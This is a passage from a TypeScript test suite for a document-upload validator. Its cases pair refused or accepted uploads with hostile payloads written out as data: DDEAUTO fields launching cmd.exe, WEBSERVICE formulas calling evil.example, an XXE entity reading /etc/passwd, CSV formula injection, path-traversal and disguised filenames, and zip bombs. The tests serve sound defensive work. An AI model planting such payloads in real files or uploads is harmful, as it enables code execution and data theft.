          '<w:p><w:r><w:instrText> HYPERLINK \\l "link satu" PAGEREF link \\h </w:instrText></w:r></w:p>',
        ),
      }),
    ),
    refuse(
      'letter with a picture from elsewhere in an old drawing',
      'dokumen/a.docx',
      word({
        'word/drawings/vmlDrawing1.vml': strToU8(
          '<xml><v:shape><v:imagedata src="https://evil.example/x.png"/></v:shape></xml>',
        ),
      }),
    ),
    pass(
      'letter with an old drawing',
      'dokumen/gambar.docx',
      word({
        'word/drawings/vmlDrawing1.vml': strToU8(
          '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="https://contoh.example/"><v:imagedata o:relid="rId1"/><br></v:shape></xml>',
        ),
      }),
    ),
    refuse(
      'letter with an added program of the web',
      'dokumen/a.docx',
      word({
        'word/webextensions/webextension1.xml': strToU8(
          '<we:webextension xmlns:we="x"><we:reference store="https://evil.example/"/></we:webextension>',
        ),
      }),
    ),
    refuse(
      'letter whose text has another ending',
      'dokumen/a.docx',
      zipSync({
        '[Content_Types].xml': types('word/document.dat', wordType),
        '_rels/.rels': first('word/document.dat'),
        'word/document.dat': words('<w:p><w:r><w:instrText>DDEAUTO cmd "/k calc"</w:instrText></w:r></w:p>'),
      }),
    ),
    refuse(
      'sheet of bytes',
      'dokumen/a.xlsx',
      sheet({
        '[Content_Types].xml': types('xl/worksheets/sheet1.bin', 'application/vnd.ms-excel.worksheet'),
        'xl/worksheets/sheet1.bin': Buffer.alloc(64),
      }),
    ),
    refuse(
      'letter with two texts of one name',
      'dokumen/a.docx',
      twice(
        zipSync({
          '[Content_Types].xml': types('word/document.xml', wordType),
          '_rels/.rels': first('word/document.xml'),
          'word/document.xmk': words('<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>'),
          'word/document.xml': words(),
        }),
      ),
    ),
    refuse(
      'sheet that asks a host, under another name',
      'dokumen/a.xlsx',
      sheet({
        'xl/worksheets/sheet1.xml': strToU8(
          '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row><x:c><x:f>WEBSERVICE("https://evil.example/")</x:f></x:c></x:row></x:sheetData></x:worksheet>',
        ),
      }),
    ),
    ...Object.entries({
      'by a name':
        '<definedNames><definedName name="x">WEBSERVICE("https://evil.example/")</definedName></definedNames>',
      'by a colour':
        '<conditionalFormatting><cfRule><formula>WEBSERVICE("https://evil.example/")</formula></cfRule></conditionalFormatting>',
      'by a choice':
        '<dataValidations><dataValidation><formula1>WEBSERVICE("https://evil.example/")</formula1></dataValidation></dataValidations>',
    }).map(([how, part]) =>
      refuse(
        `sheet that asks a host ${how}`,
        'dokumen/a.xlsx',
        sheet({ 'xl/worksheets/sheet1.xml': strToU8(`<worksheet>${part}</worksheet>`) }),
      ),
    ),
    ...Object.entries({
      'a frame from elsewhere': '<draw:floating-frame xlink:href="https://evil.example/"/>',
      'a section from elsewhere':
        '<text:section><text:section-source xlink:href="https://evil.example/x.odt"/></text:section>',
      'a section of the network':
        '<text:section><text:section-source xlink:href="\\\\evil.example\\x.odt"/></text:section>',
      'a film from elsewhere': '<draw:plugin xlink:href="https://evil.example/x.mp4"/>',
      'an object from elsewhere': '<draw:object xlink:href="https://evil.example/x.odt"/>',
      'a picture from elsewhere, under other names':
        '<d:image xmlns:l="http://www.w3.org/1999/xlink" l:href="https://evil.example/x.png"/>',
      'a program at its opening, under another name':
        '<s:event-listener s:language="ooo:script" l:href="vnd.sun.star.script:x"/>',
      'a cell that asks a host':
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"/>',
      'a cell that asks a program':
        '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>',
      'a link that is a program': '<text:a xlink:href="vnd.sun.star.script:x$y?language=Python">x</text:a>',
    }).map(([what, part]) =>
      refuse(
        `OpenDocument with ${what}`,
        'dokumen/a.odt',
        openDocument('application/vnd.oasis.opendocument.text', {
          'content.xml': strToU8(
            `<office:document-content><office:body>${part}</office:body></office:document-content>`,
          ),
        }),
      ),
    ),
    pass(
      'OpenDocument with a picture and a link',
      'dokumen/baik.odt',
      openDocument('application/vnd.oasis.opendocument.text', {
        'content.xml': strToU8(
          '<office:document-content><draw:image xlink:href="Pictures/a.png"/><text:a xlink:href="https://contoh.example/">x</text:a><draw:object xlink:href="./Object 1"/></office:document-content>',
        ),
        'Configurations2/accelerator/current.xml': Buffer.alloc(0),
        'meta.xml': strToU8('<office:meta><meta:template xlink:href="file:///C:/kop.ott"/></office:meta>'),
      }),
    ),
    refuse('letter with an object inside', 'dokumen/a.docx', word({ 'word/embeddings/oleObject1.bin': container })),
    refuse(
      'letter with a page inside',
      'dokumen/a.docx',
      word({
        'word/afchunk.html': strToU8(webPage),
        [link]: relations(
          '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.html"/>',
        ),
      }),
    ),
    refuse('letter with a control', 'dokumen/a.docx', word({ 'word/activeX/activeX1.bin': Buffer.alloc(64) })),
    refuse(
      'letter with a field that starts a program',
      'dokumen/a.docx',
      word({
        'word/document.xml': words(
          '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
        ),
      }),
    ),
    refuse(
      'letter of entities',
      'dokumen/a.docx',
      word({ 'word/document.xml': strToU8(`<!DOCTYPE w [<!ENTITY a "aaaa">${entities()}]><w>&j;</w>`) }),
    ),
    refuse(
      'letter with an entity of a file',
      'dokumen/a.docx',
      word({ 'word/document.xml': strToU8('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>') }),
    ),
    refuse(
      'letter that unpacks to a gigabyte',
      'dokumen/a.docx',
      word({ 'word/media/x.bin': Buffer.alloc(300_000_000) }),
    ),
    refuse('letter with a file outside itself', 'dokumen/a.docx', word({ '../../../../tmp/x.txt': strToU8('x') })),
    refuse('letter without a letter', 'dokumen/a.docx', zipSync({ 'x.txt': strToU8('x') })),
    refuse('letter that is a sheet', 'dokumen/a.docx', sheet()),
    refuse('sheet that is a letter', 'dokumen/a.xlsx', word()),
    refuse('letter that is a page', 'dokumen/a.docx', webPage),
    refuse('letter with a password', 'dokumen/a.docx', container),
    refuse('letter of old Word', 'dokumen/a.doc', container),
    refuse('letter of rich text', 'dokumen/a.rtf', '{\\rtf1\\object\\objautlink}'),
    refuse('letter of rich text named DOCX', 'dokumen/a.docx', '{\\rtf1\\object\\objautlink}'),
    refuse('letter cut off', 'dokumen/a.docx', word().subarray(0, 300)),
    refuse('letter with a program behind it', 'dokumen/a.docx', join(word(), 'MZ', Buffer.alloc(4000))),
    refuse('letter with a page before it', 'dokumen/a.docx', join(webPage, word())),
    refuse('sheet with a program', 'dokumen/a.xlsx', sheet({ 'xl/vbaProject.bin': Buffer.alloc(64) })),
    refuse('sheet with an old program', 'dokumen/a.xlsx', sheet({ 'xl/macrosheets/sheet1.xml': strToU8('<x/>') })),
    refuse(
      'sheet with data from elsewhere',
      'dokumen/a.xlsx',
      sheet({ 'xl/connections.xml': strToU8('<connections/>') }),
    ),
    refuse(
      'sheet that asks a program',
      'dokumen/a.xlsx',
      sheet({
        'xl/externalLinks/externalLink1.xml': strToU8(
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ),
      }),
    ),
    refuse(
      'OpenDocument with a program',
      'dokumen/a.odt',
      openDocument('application/vnd.oasis.opendocument.text', { 'Basic/Standard/x.xml': strToU8('<x/>') }),
    ),
    refuse('OpenDocument named DOCX', 'dokumen/a.docx', openDocument('application/vnd.oasis.opendocument.text')),
  ];
}

function texts(): Upload[] {
  return [
    pass('plain text with an element', 'dokumen/elemen.txt', `Naskah ${script}\n`),
    refuse('program named text', 'dokumen/a.txt', join('\x7fELF', Buffer.alloc(60))),
    refuse('text of null bytes', 'dokumen/a.txt', Buffer.alloc(64)),
    refuse('text that is no UTF-8', 'dokumen/a.txt', Buffer.from([0x4e, 0xff, 0xfe, 0xc0, 0x80])),
    refuse('table of formulas', 'dokumen/a.csv', '=cmd|\'/C calc\'!A0,"=HYPERLINK(""https://evil.example/"")"\n'),
    refuse('table of formulas with old line ends', 'dokumen/a.csv', 'a,b\r=1+1,2\r'),
    refuse('table of formulas with a tab before', 'dokumen/a.csv', 'a;"\t=HYPERLINK(1)"\n'),
    refuse('table of formulas in wide letters', 'dokumen/a.csv', "a,＋cmd|'/C calc'!A0\n"),
    refuse('table of formulas after a dash of wide letters', 'dokumen/a.csv', "a,－2+3+cmd|'/C calc'!A0\n"),
    refuse(
      'table of formulas in bytes of two',
      'dokumen/a.csv',
      join(Buffer.from([0xff, 0xfe]), Buffer.from('=1+1', 'utf16le')),
    ),
    refuse('page named Markdown', 'dokumen/a.md', webPage),
    refuse('page named text after a comment', 'dokumen/a.txt', `<!-- x -->${webPage}`),
    refuse('page', 'dokumen/a.html', webPage),
    refuse('page of XML', 'dokumen/a.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
    refuse('XML', 'dokumen/a.xml', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`),
    refuse('style sheet of XML', 'dokumen/a.xsl', '<x/>'),
    refuse('script', 'dokumen/a.js', 'alert(1)'),
    refuse('module', 'dokumen/a.mjs', 'alert(1)'),
    refuse('bytes to run', 'dokumen/a.wasm', Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])),
    refuse('mail as a page', 'dokumen/a.mht', 'MIME-Version: 1.0\nContent-Type: text/html\n\n' + webPage),
    refuse('shortcut', 'dokumen/a.url', '[InternetShortcut]\nURL=file:///c:/windows/system32/cmd.exe\n'),
    refuse('calendar', 'dokumen/a.ics', 'BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n'),
    refuse('archive', 'dokumen/a.zip', zipSync({ 'x.exe': Buffer.from('MZ') })),
  ];
}

async function names(): Promise<Upload[]> {
  const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#456' } })
    .png()
    .toBuffer();
  const good = pdf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>');
  return [
    refuse('file for the host: headers', '_headers', '/*\n  Content-Security-Policy: *\n'),
    refuse('file for the host: redirects', '_redirects', '/* https://evil.example/:splat 301\n'),
    refuse('file for Apache', '.htaccess', 'AddType text/html .png\n'),
    refuse('file for IIS', 'web.config', '<configuration/>'),
    refuse('start page', 'index.html', webPage),
    refuse('worker', 'pekerja.js', 'self.onfetch = () => {}'),
    pass('document with two endings', 'dokumen/naskah.php.pdf', good),
    pass('picture with two endings', 'foto/a.svg.png', png),
    refuse('document with a turned name', 'dokumen/naskah\u202efdp.exe.pdf', good),
    refuse('document with a space at its end', 'dokumen/naskah.pdf ', good),
    refuse('document with a dot at its end', 'dokumen/naskah.pdf.', good),
    refuse('document named as a device', 'dokumen/con.pdf', good),
    refuse('document without an ending', 'dokumen/naskah', good),
    refuse('document with a wide dot', 'dokumen/naskah．pdf', good),
    pass('document with a Cyrillic letter', 'dokumen/nаskah.pdf', good),
    refuse('document with a line in its name', 'dokumen/naskah\nx.pdf', good),
    refuse('document with a question mark in its name', 'dokumen/naskah?x.pdf', good),
    refuse('document with a percent sign in its name', 'dokumen/%2e%2e%2fnaskah.pdf', good),
    refuse('document with a backslash in its name', 'dokumen\\..\\naskah.pdf', good),
    refuse('document of a hidden folder', '.git/naskah.pdf', good),
    refuse('document of a name that is too long', `dokumen/${'n'.repeat(240)}.pdf`, good),
  ];
}
